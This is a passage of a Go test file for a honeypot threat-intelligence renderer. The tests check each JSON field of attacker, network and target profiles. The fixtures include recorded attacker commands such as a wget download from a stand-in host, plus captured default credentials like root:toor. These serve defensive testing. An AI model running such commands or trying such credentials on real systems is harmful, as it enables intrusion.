@@ -1,0 +1,661 @@
+package profile
+
+import (
+	"encoding/json"
+	"fmt"
+	"net/netip"
+	"os"
+	"path/filepath"
+	"reflect"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"dossier/correlate/event"
+	"dossier/correlate/law"
+	"dossier/correlate/state"
+	"dossier/profile/enrich"
+	"dossier/profile/rules"
+
+	"github.com/maxmind/mmdbwriter"
+	"github.com/maxmind/mmdbwriter/mmdbtype"
+)
+
+// The tests of this file give every figure of every document a value of its
+// own and say where it must stand. What a field shows is written down here by
+// hand: neither fields.go nor a recorded file can put it right.
+
+// figuresDay is the day on which everything in this file happens.
+var figuresDay = time.Date(2026, 3, 4, 0, 0, 0, 0, time.UTC)
+
+// moment is n seconds after midnight.
+func moment(n int64) event.Time { return event.FromTime(figuresDay) + event.Time(n)*second }
+
+// clock is how a document shows moment(n).
+func clock(n int64) string {
+	return figuresDay.Add(time.Duration(n) * time.Second).Format(`"2006-01-02T15:04:05.000000Z"`)
+}
+
+// large is a limit that nothing here reaches.
+var large = law.Limit{Keys: 1 << 20, Note: 1 << 10}
+
+// times adds up seconds between events.
+func times(start event.Time, intervals ...float64) (t law.Times) {
+	t.Add(start, 1<<10)
+	for _, s := range intervals {
+		start += event.Time(s * 1e6)
+		t.Add(start, 1<<10)
+	}
+	return t
+}
+
+// uneven are the intervals of "uniform 27" in behavior/testdata/beacon.json,
+// whose scores are RITA's: 0.233, 0.923 and 0.916. Two events of one second lie
+// half a second apart, which RITA doesn't see. The statistics below are those
+// of Python's statistics.fmean, median and pstdev.
+var uneven = []float64{
+	9, 7, 8, 2, 0.5, 14.5, 5, 5, 12, 2, 4, 1, 8, 418, 377, 545, 92, 720, 838, 235, 1639, 2157, 1339, 6, 513, 1133, 7077, 1607,
+	2728, 2982, 3708, 5772, 2211, 10565, 2802, 11064, 771, 10892, 6868,
+}
+
+// fingerprintOf are the fingerprints of the numbered attacker, of every kind
+// that has a flat list and one that has none.
+var fingerprintOf = []struct{ kind, value string }{
+	{"ja3", "v-ja3"}, {"ja3s", "v-ja3s"}, {"ja4", "v-ja4"}, {"ja4s", "v-ja4s"}, {"ja4h", "v-ja4h"}, {"ja4_quic", "v-ja4-quic"},
+	{"hassh", "v-hassh"}, {"jarm", "v-jarm"}, {"http_useragent", "v-agent"}, {"ssh_client_banner", "v-banner"},
+	{"tls_certificate", strings.Repeat("ce", 32)}, {"tls_certificate", "CN=short"}, {"tcpfp", "v-tcp"},
+}
+
+// numbered returns the state of an attacker in which every figure, time and
+// entry has a value of its own.
+func numbered() *state.Attacker {
+	a, s := new(event.Arena), new(state.Attacker)
+	s.First, s.Last = moment(1), moment(999)
+	s.Events, s.Kinds = 1001, [3]int64{event.Noise: 1002, event.Scan: 1003, event.Interaction: 1004}
+	s.CommandCount, s.FirstCommand = 1005, moment(44)
+	s.Attempts, s.Successes, s.FirstSuccess = 1006, 1007, moment(40)
+	s.LongestSession, s.Large, s.Retransmits = 1_008_009, 1010, 1011
+	s.Recon, s.Exfil, s.Handshake = moment(20), moment(33)+250_000, true
+	for _, e := range []law.Entry{
+		{Key: "ftp", Count: 2, First: moment(1), Last: moment(2), Rank: uint8(event.Noise)},
+		{Key: "http", Count: 3, First: moment(3), Last: moment(4), Rank: uint8(event.Scan)},
+		{Key: "smtp", Count: 4, First: moment(5), Last: moment(6), Rank: uint8(event.Interaction)},
+		{Key: "ssh", Count: 5, First: moment(7), Last: moment(8), Rank: uint8(event.Interaction)},
+		{Key: "telnet", Count: 6, First: moment(9), Last: moment(10), Rank: uint8(event.Scan)},
+	} {
+		s.Services.Add(e, large)
+	}
+	for _, e := range []law.Entry{
+		{Key: "delta", Count: 21, First: moment(2), Last: moment(60) + 234_567},
+		{Key: "alpha", Count: 22, First: moment(6), Last: moment(61)},
+		{Key: "charlie", Count: 23, First: moment(12), Last: moment(62)},
+		{Key: "bravo", Count: 24, First: moment(18), Last: moment(63)},
+	} {
+		s.Deckies.Add(e, large)
+	}
+	for _, h := range []law.Item{
+		{Time: moment(2), A: "delta", B: "ssh", C: "connect"}, {Time: moment(4), A: "delta", B: "http", C: "request"},
+		{Time: moment(6), A: "alpha", B: "ssh", C: "login"}, {Time: moment(10), A: "delta", B: "ftp", C: "list"},
+		{Time: moment(11), A: "alpha", B: "http", C: "request"}, {Time: moment(12), A: "charlie"},
+		{Time: moment(18), A: "bravo", B: "smtp", C: "rcpt_to"},
+	} {
+		s.Hops.Add(h, large)
+	}
+	s.Times = times(1767340802*1e6, uneven...)
+	for i := range int64(3) {
+		s.Hours.Add(moment(3600*i), 24)
+	}
+	for _, c := range []law.Item{
+		{Time: moment(44), A: "ssh", B: "delta", C: "wget http://198.51.100.7/x"},
+		{Time: moment(46), A: "telnet", B: "alpha", C: "id"},
+		{Time: moment(50), A: "ssh", B: "bravo", C: "wget http://198.51.100.7/x"},
+		{Time: moment(55), C: "uname -a"},
+	} {
+		s.Commands.Add(c, large)
+	}
+	login := func(service, principal, kind, secret string, digest byte, outcome event.Outcome, n int64) {
+		e := event.Evidence{A: principal, B: kind}
+		for i := range e.Digest {
+			e.Digest[i] = digest
+		}
+		s.Credentials.Add(law.Entry{
+			Key: state.CredentialKey(a, service, &e), Count: n, First: moment(n), Last: moment(n + 100), Rank: uint8(outcome), Payload: secret,
+		}, large)
+	}
+	login("ssh", "root", "plaintext", "toor", 0xd1, event.Success, 31)
+	login("telnet", "admin", "plaintext", "1234", 0xd2, event.Failure, 32)
+	login("", "root", "md5", "hash", 0xd3, event.Unknown, 33)
+	for i, f := range fingerprintOf {
+		n := int64(300 + i)
+		payload := ""
+		if f.value == "CN=short" {
+			payload = state.EncodeFields(a, []event.Field{{Key: "cert_sha256", Value: "v-cert"}, {Key: "issuer", Value: "CA"}})
+		}
+		s.Fingerprints.Add(law.Entry{Key: f.kind + "\x00" + f.value, Count: n, First: moment(n), Last: moment(n + 100), Payload: payload}, large)
+	}
+	file, mail := strings.Repeat("aa", 32), strings.Repeat("bb", 32)
+	s.Artifacts.Add(law.Entry{Key: file + "\x00http://198.51.100.7/x\x00file", Count: 41, First: moment(41), Last: moment(141),
+		Payload: state.EncodeFields(a, []event.Field{{Key: "name", Value: "x"}})}, large)
+	s.Artifacts.Add(law.Entry{Key: mail + "\x00\x00mail", Count: 42, First: moment(42), Last: moment(142)}, large)
+	s.Leaks.Add(law.Entry{Key: "81.2.69.142\x00X-Forwarded-For\x00public", Count: 51, First: moment(51), Last: moment(151)}, large)
+	s.Leaks.Add(law.Entry{Key: "127.0.0.1\x00X-Real-IP\x00loopback", Count: 52, First: moment(52), Last: moment(152)}, large)
+	for i := range 17 {
+		s.Sessions.Add(fmt.Sprint("session", i), state.LimitSessions)
+	}
+	for i := range 9 {
+		s.Domains.Add(fmt.Sprint("domain", i), state.LimitDomains)
+	}
+	s.Sensors.Add(law.Entry{Key: "sensor-b"}, large)
+	s.Sensors.Add(law.Entry{Key: "sensor-a"}, large)
+	s.Network.Add(law.Item{Time: -moment(71), A: "2a00:1450:4001::2"}, large)
+	s.Network.Add(law.Item{Time: -moment(72), A: "2a00:1450:4001::1"}, large)
+	s.SystemGuesses.Add(law.Entry{Key: "linux", Count: 61, First: 1}, large)
+	s.SystemGuesses.Add(law.Entry{Key: "windows", Count: 60, First: 1}, large)
+	s.TTLs.Add(law.Entry{Key: "120", Count: 62, First: 1}, large)
+	s.Distances.Add(law.Entry{Key: "7", Count: 5, First: 1}, large)
+	s.Distances.Add(law.Entry{Key: "19", Count: 2, First: 1}, large)
+	s.Stack = law.Latest{Time: moment(80), Value: state.EncodeFields(a, []event.Field{
+		{Key: "window", Value: "29200"}, {Key: "wscale", Value: "8"}, {Key: "mss", Value: "1460"}, {Key: "tos", Value: "16"},
+		{Key: "dscp", Value: "4"}, {Key: "ecn", Value: "2"}, {Key: "has_sack", Value: "1"}, {Key: "has_timestamps", Value: "0"},
+		{Key: "options_sig", Value: "M,S,T"}, {Key: "ipid_class", Value: "stale"}, {Key: "window", Value: "1"},
+	})}
+	s.IPIDClass, s.ISNClass = law.Latest{Time: moment(81), Value: "incremental"}, law.Latest{Time: moment(82), Value: "random"}
+	s.KexOrders.Add(law.Entry{Key: "kex-b", Count: 65, First: moment(83), Last: moment(84)}, large)
+	s.KexOrders.Add(law.Entry{Key: "kex-a", Count: 66, First: moment(85), Last: moment(86)}, large)
+	s.Tools.Add(law.Entry{Key: "sqlmap", Count: 67, First: moment(87), Last: moment(88), Payload: "user agent"}, large)
+	s.Tools.Add(law.Entry{Key: "paramiko", Count: 68, First: moment(89), Last: moment(90), Payload: "HASSH"}, large)
+	s.Techniques.Add(law.Entry{Key: "T1110", Count: 69, First: moment(91), Last: moment(92), Payload: "tries to log in"}, large)
+	s.Techniques.Add(law.Entry{Key: "T1105", Count: 70, First: moment(93), Last: moment(94), Payload: "fetches a file"}, large)
+	s.Alerts.Add(law.Entry{Key: "ET SCAN\x00Leak", Count: 71, First: moment(95), Last: moment(96), Rank: 255 - 3}, large)
+	s.Alerts.Add(law.Entry{Key: "ET EXPLOIT\x00", Count: 72, First: moment(97), Last: moment(98), Rank: 255 - 1}, large)
+	// Neither is shown: who crosses lines is asked of the state.
+	s.Crowd.Share, s.Transitions = 0.5, []state.Transition{{Action: Observed}}
+	return s
+}
+
+// figuresRisk is a file of two reasons, so that the score can be worked out by
+// hand: (90 + 40/2^1.5) ÷ (1 + 1/2^1.5).
+const figuresRisk = `{"version": 1, "inputs": 2, "spoofable_factor": 0.5, "reasons": [
+	{"id": "guesses", "fact": "login_attempts", "weight": 90, "text": "tried {n} logins"},
+	{"id": "calls", "tactic": "TA0011", "weight": 40, "text": "calls home"}]}`
+
+// write puts text into a file and returns its path.
+func write(t testing.TB, text string) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "file.json")
+	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func rulesWith(t testing.TB, risk string) *rules.Set {
+	t.Helper()
+	set, err := rules.New(rules.Options{Risk: write(t, risk)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return set
+}
+
+// figuresRenderer returns a renderer that knows a place in the south-west, from
+// two files, and a name.
+func figuresRenderer(t *testing.T) *Renderer {
+	t.Helper()
+	database := func(kind string, record mmdbtype.Map) string {
+		tree, err := mmdbwriter.New(mmdbwriter.Options{DatabaseType: kind})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, network := range []string{"185.220.0.0/16", "2a00:1450::/32"} {
+			if err := tree.Insert(ipNet(netip.MustParsePrefix(network)), record); err != nil {
+				t.Fatal(err)
+			}
+		}
+		f, err := os.Create(filepath.Join(t.TempDir(), kind))
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer f.Close()
+		if _, err := tree.WriteTo(f); err != nil {
+			t.Fatal(err)
+		}
+		return f.Name()
+	}
+	files, err := enrich.Open(enrich.Options{
+		GeoIP: database("Test-City", mmdbtype.Map{
+			"country":  mmdbtype.Map{"iso_code": mmdbtype.String("CL")},
+			"location": mmdbtype.Map{"latitude": mmdbtype.Float64(-33.875), "longitude": mmdbtype.Float64(-70.625)},
+		}),
+		ASN: database("Test-ASN", mmdbtype.Map{
+			"autonomous_system_number": mmdbtype.Uint32(64499), "autonomous_system_organization": mmdbtype.String("Example SA"),
+		}),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(files.Close)
+	names := enrich.NewNames(enrich.NamesOptions{Resolver: oneName{}})
+	t.Cleanup(names.Close)
+	for names.Name(someone) == "" || names.Name(networkHead().Addr) == "" {
+		time.Sleep(time.Millisecond)
+	}
+	return renderer(t, Options{TLP: "green", Rules: rulesWith(t, figuresRisk), Files: files, Names: names})
+}
+
+// shows checks what a document says against a table of fields, each with its
+// value in JSON, and that nothing else is said. It notes in asserted which
+// fields the table has.
+func shows(t *testing.T, what string, k Kind, doc []byte, want map[string]string, asserted map[Kind]map[string]bool) {
+	t.Helper()
+	m := decode(t, doc)
+	for name, text := range want {
+		var value any
+		if err := json.Unmarshal([]byte(text), &value); err != nil {
+			t.Fatalf("%s: %s: %v", what, name, err)
+		}
+		if got := at(m, name); !reflect.DeepEqual(got, value) {
+			is, _ := json.Marshal(got)
+			t.Errorf("%s: %s is\n%s\nwant\n%s", what, name, is, text)
+		}
+		if value != nil {
+			if asserted[k] == nil {
+				asserted[k] = map[string]bool{}
+			}
+			asserted[k][name] = true
+		}
+	}
+	for _, name := range leaves(k, m) {
+		if _, ok := want[name]; !ok {
+			is, _ := json.Marshal(at(m, name))
+			t.Errorf("%s: nothing says what %s must be; it is %s", what, name, is)
+		}
+	}
+}
+
+// with returns a copy of rows with more, or other, ones. A row of "null" says
+// that the field is absent.
+func with(rows map[string]string, more map[string]string) map[string]string {
+	all := map[string]string{}
+	for name, v := range rows {
+		all[name] = v
+	}
+	for name, v := range more {
+		all[name] = v
+	}
+	return all
+}
+
+func seen(count, first, last int64) string {
+	return fmt.Sprintf(`"count":%d,"first_seen":%s,"last_seen":%s`, count, clock(first), clock(last))
+}
+
+const (
+	someoneUUID = `"a7b54897-8812-5e35-b99b-6625c7ee7be6"`
+	networkUUID = `"8f05aa11-13c4-5e97-b10c-cf38e518ca40"`
+	writtenText = `"2026-01-04T12:00:00.000000Z"`
+	location    = `{"lat":-33.875,"lon":-70.625}`
+	aScore      = `76.94`
+	schemaText  = `2`
+
+	// Halves of SHA-256, by Python's hashlib: of "payload" and the file's
+	// digest; of "credentials" and each principal, kind and digest, sorted; of
+	// "toolchain", the HASSH and the programs. NUL stands between all of them.
+	payloadKey     = "payload:a64825a009f735236ad82026cdf166ea"
+	credentialsKey = "credentials:d0acfab56f70a9b59c894be8925f6ff8"
+	toolchainKey   = "toolchain:b81b740c0ba2ce246419f9fc58757f93"
+)
+
+func attackerRows() map[string]string {
+	hop := func(n int64, decky, service, kind string) string {
+		if service == "" {
+			return fmt.Sprintf(`{"timestamp":%s,"decky":%q}`, clock(n), decky)
+		}
+		return fmt.Sprintf(`{"timestamp":%s,"decky":%q,"service":%q,"event_type":%q}`, clock(n), decky, service, kind)
+	}
+	edge := func(from, to string, first, count int64) string {
+		return fmt.Sprintf(`{"from":%q,"to":%q,"first":%s,"count":%d}`, from, to, clock(first), count)
+	}
+	dwell := func(decky string, first, last int64, seconds string, events int) string {
+		return fmt.Sprintf(`{"decky":%q,"first":%s,"last":%s,"seconds":%s,"events":%d}`, decky, clock(first), clock(last), seconds, events)
+	}
+	list := func(v ...string) string { return "[" + strings.Join(v, ",") + "]" }
+	var fingerprints []string
+	for i, f := range fingerprintOf {
+		payload := ""
+		if f.value == "CN=short" {
+			payload = `"payload":{"cert_sha256":"v-cert","issuer":"CA"},`
+		}
+		n := int64(300 + i)
+		fingerprints = append(fingerprints, fmt.Sprintf(`{"type":%q,"value":%q,%s%s}`, f.kind, f.value, payload, seen(n, n, n+100)))
+	}
+	file, mail := strings.Repeat("aa", 32), strings.Repeat("bb", 32)
+	certificate := strings.Repeat("ce", 32)
+	digest := func(b string) string { return strings.Repeat(b, 32) }
+	return map[string]string{
+		"@timestamp": clock(999), "ip": `"185.220.101.4"`, "uuid": someoneUUID, "first_seen": clock(1), "last_seen": clock(999),
+		"updated_at": writtenText, "event_count": "1001",
+		"services": `["ftp","http","smtp","ssh","telnet"]`, "service_count": "5",
+		"services_scanned": `["http","telnet"]`, "services_interacted": `["smtp","ssh"]`,
+		"deckies": `["delta","alpha","charlie","bravo"]`, "decky_count": "4", "is_traversal": "true",
+		"traversal_path": `"delta → alpha → charlie → bravo"`,
+		"hops": list(hop(2, "delta", "ssh", "connect"), hop(4, "delta", "http", "request"), hop(6, "alpha", "ssh", "login"), hop(10, "delta", "ftp", "list"),
+			hop(11, "alpha", "http", "request"), hop(12, "charlie", "", ""), hop(18, "bravo", "smtp", "rcpt_to")),
+		"movement.edge":  `["alpha → charlie","alpha → delta","charlie → bravo","delta → alpha"]`,
+		"movement.edges": list(edge("delta", "alpha", 6, 2), edge("alpha", "delta", 10, 1), edge("alpha", "charlie", 12, 1), edge("charlie", "bravo", 18, 1)),
+		"movement.dwell": list(
+			strings.Replace(dwell("delta", 2, 60, "58.235", 21), "01:00.000000", "01:00.234567", 1),
+			dwell("alpha", 6, 61, "55", 22), dwell("charlie", 12, 62, "50", 23), dwell("bravo", 18, 63, "45", 24)),
+		"commands": list(
+			fmt.Sprintf(`{"timestamp":%s,"service":"ssh","decky":"delta","command":"wget http://198.51.100.7/x"}`, clock(44)),
+			fmt.Sprintf(`{"timestamp":%s,"service":"telnet","decky":"alpha","command":"id"}`, clock(46)),
+			fmt.Sprintf(`{"timestamp":%s,"service":"ssh","decky":"bravo","command":"wget http://198.51.100.7/x"}`, clock(50)),
+			fmt.Sprintf(`{"timestamp":%s,"command":"uname -a"}`, clock(55))),
+		"command_count": "1005", "command.line": `["wget http://198.51.100.7/x","id","uname -a"]`,
+		"credentials": list(
+			`{"service":"ssh","principal":"root","secret_kind":"plaintext","secret":"toor","secret_sha256":"`+digest("d1")+`",`+seen(31, 31, 131)+`,"outcome":"success"}`,
+			`{"service":"telnet","principal":"admin","secret_kind":"plaintext","secret":"1234","secret_sha256":"`+digest("d2")+`",`+seen(32, 32, 132)+`,"outcome":"failure"}`,
+			`{"principal":"root","secret_kind":"md5","secret":"hash","secret_sha256":"`+digest("d3")+`",`+seen(33, 33, 133)+`}`),
+		"credential_count": "3", "credential.username": `["admin","root"]`, "credential.password": `["1234","hash","toor"]`,
+		"credential.pair": `["admin:1234","root:hash","root:toor"]`,
+		"login_attempts":  "1006", "login_successes": "1007",
+		"fingerprints": list(fingerprints...), "fingerprint.ja3": `["v-ja3"]`, "fingerprint.ja3s": `["v-ja3s"]`, "fingerprint.ja4": `["v-ja4"]`,
+		"fingerprint.ja4s": `["v-ja4s"]`, "fingerprint.ja4h": `["v-ja4h"]`, "fingerprint.ja4_quic": `["v-ja4-quic"]`, "fingerprint.hassh": `["v-hassh"]`,
+		"fingerprint.jarm": `["v-jarm"]`, "fingerprint.user_agent": `["v-agent"]`, "fingerprint.ssh_client": `["v-banner"]`,
+		"fingerprint.tls_cert_sha256": list(`"`+certificate+`"`, `"v-cert"`),
+		"artifacts": list(
+			`{"sha256":"`+file+`","url":"http://198.51.100.7/x","kind":"file","payload":{"name":"x"},`+seen(41, 41, 141)+`}`,
+			`{"sha256":"`+mail+`","kind":"mail",`+seen(42, 42, 142)+`}`),
+		"artifact.sha256": list(`"`+file+`"`, `"`+mail+`"`), "artifact.url": `["http://198.51.100.7/x"]`,
+		"ip_leaks": list(
+			`{"claimed_ip":"81.2.69.142","header":"X-Forwarded-For","category":"public","kind":"leak",`+seen(51, 51, 151)+`}`,
+			`{"claimed_ip":"127.0.0.1","header":"X-Real-IP","category":"loopback","kind":"spoofed_source",`+seen(52, 52, 152)+`}`),
+		"alerts": list(
+			`{"signature":"ET SCAN","category":"Leak","severity":3,`+seen(71, 95, 96)+`}`,
+			`{"signature":"ET EXPLOIT","severity":1,`+seen(72, 97, 98)+`}`),
+		"alert.signature": `["ET EXPLOIT","ET SCAN"]`,
+		// 3 credentials, 13 fingerprints, 2 artifacts, 2 claims.
+		"bounty_count": "20", "session_count": "17", "session_longest_s": "1008.009",
+		"behavior.class": `"slow_scan"`, "behavior.timing.event_count": "40", "behavior.timing.duration_s": "79137",
+		"behavior.timing.mean_iat_s": "2029.154", "behavior.timing.median_iat_s": "545", "behavior.timing.stdev_iat_s": "3126.533",
+		"behavior.timing.min_iat_s": "0.5", "behavior.timing.max_iat_s": "11064", "behavior.timing.cv": "1.5408",
+		"behavior.beacon.score": "0.691", "behavior.beacon.ts_score": "0.233", "behavior.beacon.hist_score": "0.923", "behavior.beacon.dur_score": "0.916",
+		"behavior.tools": `["paramiko","sqlmap"]`,
+		"behavior.tool_evidence": list(
+			`{"tool":"sqlmap","by":"user agent",`+seen(67, 87, 88)+`}`, `{"tool":"paramiko","by":"HASSH",`+seen(68, 89, 90)+`}`),
+		"behavior.technique_evidence": list(
+			`{"technique":"T1110","why":"tries to log in",`+seen(69, 91, 92)+`}`, `{"technique":"T1105","why":"fetches a file",`+seen(70, 93, 94)+`}`),
+		"behavior.phase.recon_end_ts": clock(20), "behavior.phase.exfil_start_ts": strings.Replace(clock(33), ".000000", ".250000", 1),
+		"behavior.phase.exfil_latency_s": "13.25", "behavior.phase.large_payload_count": "1010",
+		"behavior.os_guess": `"linux"`, "behavior.hop_distance": "7",
+		"behavior.tcp_fingerprint": `{"window":29200,"wscale":8,"mss":1460,"tos":16,"dscp":4,"ecn":2,"has_sack":true,"has_timestamps":false,` +
+			`"options_sig":"M,S,T","ipid_class":"incremental","isn_class":"random"}`,
+		"behavior.retransmit_count": "1011", "behavior.kex_order": `["kex-b","kex-a"]`,
+		"campaign.keys":        `["` + credentialsKey + `","` + payloadKey + `","` + toolchainKey + `"]`,
+		"campaign.payload":     `["` + payloadKey + `"]`,
+		"campaign.credentials": `"` + credentialsKey + `"`,
+		"campaign.toolchain":   `["` + toolchainKey + `"]`,
+		"smtp_domain_count":    "9",
+		"country_code":         `"CL"`, "country_source": `"Test-City"`, "asn": "64499", "as_name": `"Example SA"`, "as_network": `"185.220.0.0/16"`,
+		"asn_source": `"Test-ASN"`, "ptr_record": `"host.example"`,
+		"risk.score": aScore, "risk.level": `"High"`,
+		"risk.reasons": `[{"id":"guesses","reason":"tried 1006 logins","weight":90,"points":66.49},{"id":"calls","reason":"calls home","weight":40,"points":10.45,"evidence":["T1105"]}]`,
+		"sensors":      `["sensor-a","sensor-b"]`, "spoofable": "false",
+		"transitions":         fmt.Sprintf(`{"observed":%s,"traversal":%s,"login_success":%s,"hands_on":%s}`, clock(1), clock(6), clock(40), clock(44)),
+		"threat.technique.id": `["T1105","T1110","T1595.001"]`, "threat.technique.name": `["Ingress Tool Transfer","Brute Force","Scanning IP Blocks"]`,
+		"threat.tactic.id": `["TA0006","TA0011","TA0043"]`, "threat.tactic.name": `["Credential Access","Command and Control","Reconnaissance"]`,
+		"threat.framework": `"MITRE ATT&CK"`, "threat.feed.name": `"Dossier"`,
+		"threat.indicator.type": `"ipv4-addr"`, "threat.indicator.name": `"185.220.101.4"`, "threat.indicator.ip": `"185.220.101.4"`,
+		"threat.indicator.first_seen": clock(1), "threat.indicator.last_seen": clock(999), "threat.indicator.modified_at": clock(999),
+		"threat.indicator.sightings": "1001", "threat.indicator.confidence": `"High"`, "threat.indicator.provider": `"Dossier"`,
+		"threat.indicator.description": `"185.220.101.4, slow_scan: 1001 events on 5 services of 4 decoys, 1006 login attempts (1007 successful), 1005 commands, 2 files"`,
+		"threat.indicator.marking.tlp": `"GREEN"`, "threat.indicator.geo.country_iso_code": `"CL"`, "threat.indicator.geo.location": location,
+		"threat.indicator.as.number": "64499", "threat.indicator.as.organization.name": `"Example SA"`,
+		"related.ip": `["185.220.101.4","81.2.69.142"]`, "related.user": `["admin","root"]`,
+		"related.hosts": `["alpha","bravo","charlie","delta","host.example"]`,
+		"related.hash":  list(`"`+file+`"`, `"`+mail+`"`, `"`+certificate+`"`, `"v-cert"`, `"v-hassh"`, `"v-ja3"`, `"v-ja3s"`, `"v-jarm"`),
+		"ecs.version":   `"9.4.0"`, "event.kind": `"enrichment"`, "event.category": `["threat"]`, "event.type": `["indicator"]`,
+		"event.module": `"ti_dossier"`, "event.dataset": `"ti_dossier.attackers"`, "schema_version": schemaText, "state": `"c3RhdGU="`,
+	}
+}
+
+// Every field of every document shows its own figure and no other's.
+func TestEveryFieldHasItsOwnSource(t *testing.T) {
+	r := figuresRenderer(t)
+	asserted := map[Kind]map[string]bool{}
+	s := numbered()
+	distinctFigures(t, "attacker", s)
+	head := headOf(someone)
+	shows(t, "an attacker", Attackers, r.AppendAttacker(nil, head, s), attackerRows(), asserted)
+
+	// The same as a network, of which some lists are cut.
+	network := networkHead()
+	network.State = []byte("state")
+	s = numbered()
+	s.Handshake = false
+	for i := range 5000 {
+		s.Domains.Add(fmt.Sprint("domain", i), state.LimitDomains)
+	}
+	s.Sensors.Add(law.Entry{Key: "sensor-c"}, law.Limit{Keys: 2})
+	sensors := s.Sensors.Keys()
+	dropped := s.Domains.Count() - 2000
+	if dropped < 2000 || dropped > 4000 {
+		t.Fatalf("5000 domains are estimated as %d", dropped+2000)
+	}
+	ofNetwork := with(attackerRows(), map[string]string{
+		"ip": "null", "network": `"2a00:1450:4001::/48"`, "uuid": networkUUID,
+		"as_network": `"2a00:1450::/32"`, "smtp_domain_count": fmt.Sprint(dropped + 2000), "smtp_domains_dropped": fmt.Sprint(dropped),
+		"risk.score": "38.47", "risk.level": `"Low"`, "spoofable": "true", "threat.indicator.confidence": `"Low"`,
+		"risk.reasons":          `[{"id":"guesses","reason":"tried 1006 logins","weight":90,"points":33.25},{"id":"calls","reason":"calls home","weight":40,"points":5.22,"evidence":["T1105"]}]`,
+		"threat.indicator.type": `"ipv6-addr"`, "threat.indicator.name": `"2a00:1450:4001::/48"`,
+		"threat.indicator.ip":          `["2a00:1450:4001::1","2a00:1450:4001::2"]`,
+		"threat.indicator.description": `"2a00:1450:4001::/48, slow_scan: 1001 events on 5 services of 4 decoys, 1006 login attempts (1007 successful), 1005 commands, 2 files"`,
+		"related.ip":                   `["2a00:1450:4001::1","2a00:1450:4001::2","81.2.69.142"]`,
+		"sensors":                      fmt.Sprintf("[%q,%q]", sensors[0], sensors[1]), "truncated": `["sensors","smtp_domain_count"]`,
+	})
+	shows(t, "a network", Attackers, r.AppendAttacker(nil, network, s), ofNetwork, asserted)
+
+	// The same as a beacon: one service, a steady beat of which mean, median and
+	// spread differ.
+	s = numbered()
+	s.Services.Reset()
+	s.Services.Add(law.Entry{Key: "ssh", Count: 5, Rank: uint8(event.Scan)}, large)
+	s.Times = times(1767340802*1e6, 50, 61, 70, 55, 66, 64, 48)
+	beat := with(attackerRows(), map[string]string{
+		"services": `["ssh"]`, "service_count": "1", "services_scanned": `["ssh"]`, "services_interacted": `[]`,
+		"behavior.class": `"beaconing"`, "behavior.timing.event_count": "8", "behavior.timing.duration_s": "414",
+		"behavior.timing.mean_iat_s": "59.143", "behavior.timing.median_iat_s": "61", "behavior.timing.stdev_iat_s": "7.717",
+		"behavior.timing.min_iat_s": "48", "behavior.timing.max_iat_s": "70", "behavior.timing.cv": "0.1305",
+		"behavior.beacon.interval_s": "59.143", "behavior.beacon.jitter_pct": "13.05",
+		// Quartiles 50, 61 and 66: skew 1 − 6/16, spread (61 − 6)/61; one hour of
+		// 24 tells nothing of the day.
+		"behavior.beacon.ts_score": "0.763", "behavior.beacon.hist_score": "0", "behavior.beacon.dur_score": "0", "behavior.beacon.score": "0.254",
+		"threat.technique.id": `["T1105","T1110"]`, "threat.technique.name": `["Ingress Tool Transfer","Brute Force"]`,
+		"threat.tactic.id": `["TA0006","TA0011"]`, "threat.tactic.name": `["Credential Access","Command and Control"]`,
+		"threat.indicator.description": `"185.220.101.4, beaconing: 1001 events on 1 service of 4 decoys, 1006 login attempts (1007 successful), 1005 commands, 2 files"`,
+	})
+	shows(t, "a beacon", Attackers, r.AppendAttacker(nil, head, s), beat, asserted)
+
+	// One contact a second.
+	s = numbered()
+	for range 86400 {
+		s.Hours.Add(moment(7200), 24)
+	}
+	for i := range 600 {
+		s.Times.Add(moment(7200)+event.Time(i)*second, 512)
+	}
+	doc := decode(t, r.AppendAttacker(nil, head, s))
+	if beacon := at(doc, "behavior.beacon"); !reflect.DeepEqual(beacon, map[string]any{"strobe": true}) {
+		t.Errorf("a strobe shows %v", beacon)
+	}
+	asserted[Attackers]["behavior.beacon.strobe"] = true
+
+	target := new(state.Target)
+	target.First, target.Last, target.Count, target.Accepted, target.Denied, target.Messages = moment(1), moment(2), 3001, 3002, 3003, 3004
+	for _, key := range []string{"b", "a"} {
+		target.Services.Add(law.Entry{Key: "service-" + key}, large)
+		target.Deckies.Add(law.Entry{Key: "decky-" + key}, large)
+		target.Sensors.Add(law.Entry{Key: "sensor-" + key}, large)
+	}
+	distinctFigures(t, "target", target)
+	ofTarget := map[string]string{
+		"@timestamp": clock(2), "ip": `"185.220.101.4"`, "uuid": someoneUUID, "domain": `"mail.acme.co.uk"`, "registrable_domain": `"acme.co.uk"`,
+		"first_seen": clock(1), "last_seen": clock(2), "updated_at": writtenText, "count": "3001", "rcpt_accepted_count": "3002",
+		"rcpt_denied_count": "3003", "message_count": "3004", "services": `["service-a","service-b"]`, "deckies": `["decky-a","decky-b"]`,
+		"sensors": `["sensor-a","sensor-b"]`, "country_code": `"CL"`, "ecs.version": `"9.4.0"`, "schema_version": schemaText, "state": `"c3RhdGU="`,
+	}
+	shows(t, "a target", Targets, r.AppendTarget(nil, head, "mail.acme.co.uk", target), ofTarget, asserted)
+	target.Deckies.Add(law.Entry{Key: "decky-c"}, law.Limit{Keys: 2})
+	deckies := target.Deckies.Keys()
+	shows(t, "a network's target", Targets, r.AppendTarget(nil, network, "mail.acme.co.uk", target), with(ofTarget, map[string]string{
+		"ip": "null", "network": `"2a00:1450:4001::/48"`, "uuid": networkUUID, "deckies": fmt.Sprintf("[%q,%q]", deckies[0], deckies[1]),
+		"truncated": `["deckies"]`,
+	}), asserted)
+
+	hour := new(state.Activity)
+	hour.Events, hour.Kinds = 2001, [3]int64{event.Noise: 2002, event.Scan: 2003, event.Interaction: 2004}
+	hour.CommandCount, hour.Attempts, hour.Successes, hour.Recipients = 2005, 2006, 2007, 2008
+	for _, key := range []string{"b", "a"} {
+		hour.Services.Add(law.Entry{Key: "service-" + key}, large)
+		hour.Deckies.Add(law.Entry{Key: "decky-" + key}, large)
+		hour.Sensors.Add(law.Entry{Key: "sensor-" + key}, large)
+	}
+	// Two were tried as often: the one without a service is the smaller key.
